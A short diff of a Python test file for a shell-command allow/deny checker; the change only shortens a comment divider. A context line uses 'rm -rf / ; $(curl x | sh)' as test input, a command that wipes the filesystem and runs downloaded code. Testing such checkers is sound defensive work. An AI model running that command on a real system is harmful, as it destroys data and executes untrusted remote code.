@@ -199,7 +199,7 @@ def test_allow_any_without_deny_rules_allows_anything() -> None:
     assert verdict("rm -rf / ; $(curl x | sh)", allow_any=True) == "allow"
 
 
-# --------------------------------------------------------------------------- plain commands, allowed
+# ------------------------------------------------------------------------- plain commands, allowed
 
 
 @pytest.mark.parametrize(
